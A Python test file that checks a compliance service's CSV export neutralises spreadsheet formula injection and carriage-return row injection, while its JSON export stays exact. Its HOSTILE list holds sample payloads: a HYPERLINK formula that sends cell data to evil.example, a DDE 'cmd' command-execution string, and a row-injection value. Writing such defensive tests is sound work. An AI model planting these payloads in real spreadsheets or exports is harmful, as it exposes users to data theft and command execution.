"""Hostile values in exports: a stored text that a spreadsheet would run as a formula (`=`, `+`, `-`,
`@`, tab, carriage return first) leaves a CSV download neutralised with a leading apostrophe, while the
JSON of the same read stays exact; a carriage return inside a text is quoted, never a new row."""

from __future__ import annotations

import csv
import io

import pandas as pd
from fastapi.testclient import TestClient

from complai.app.workspace import Workspace
from tests.service.conftest import bearer

PURPOSE = "fraud_detection"
SCHEMA = {
    "name": "notes",
    "subject_column": "customer_id",
    "jurisdiction": "EU",
    "retention": "P365D",
    "record_key": "customer_id",
    "purposes": {PURPOSE: "gdpr.legitimate_interests"},
    "fields": [
        {"name": "customer_id", "type": "string", "category": "user.unique_id", "identifier": "direct"},
        {"name": "note", "type": "string", "category": "user.behavior"},
        {"name": "score", "type": "integer", "category": "user.behavior", "min": -100, "max": 100},
    ],
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
# a carriage return that is not quoted ends the row for a spreadsheet: the text after it becomes a row
ROW_INJECTION = "fine\rC-666,injected,0"


def test_csv_export_neutralises_formulas_and_json_stays_exact(
    client: TestClient, ws: Workspace, owner_token: str
) -> None:
    owner = ws.session("owner", "administration")
    owner.create_dataset(owner.parse_schema(SCHEMA))
    rows = [(f"C-{i}", text, -5) for i, text in enumerate(HOSTILE)] + [("C-99", "plain text", 7)]
    rows.append(("C-98", ROW_INJECTION, 1))
    owner.ingest("notes", pd.DataFrame(rows, columns=["customer_id", "note", "score"]))
    params = {"purpose": PURPOSE, "format": "csv", "columns": "customer_id,note,score"}
    r = client.get("/api/v1/datasets/notes/records", params=params, headers=bearer(owner_token))
    assert r.status_code == 200, r.text
    cells = {row["customer_id"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
    assert "C-666" not in cells and cells["C-98"]["note"] == ROW_INJECTION
    assert "\rC-666" not in r.text.replace('"' + ROW_INJECTION + '"', "")  # quoted, so one cell
    for i, text in enumerate(HOSTILE):
        assert cells[f"C-{i}"]["note"] == "'" + text
    assert cells["C-99"]["note"] == "plain text"
    assert cells["C-0"]["score"] == "-5"  # a number is a number
    as_json = client.get(
        "/api/v1/datasets/notes/records", params={**params, "format": "json"}, headers=bearer(owner_token)
    )
    assert as_json.status_code == 200, as_json.text
    body = as_json.json()
    records = body["rows"]
    assert sorted(r["note"] for r in records) == sorted([*HOSTILE, "plain text", ROW_INJECTION])
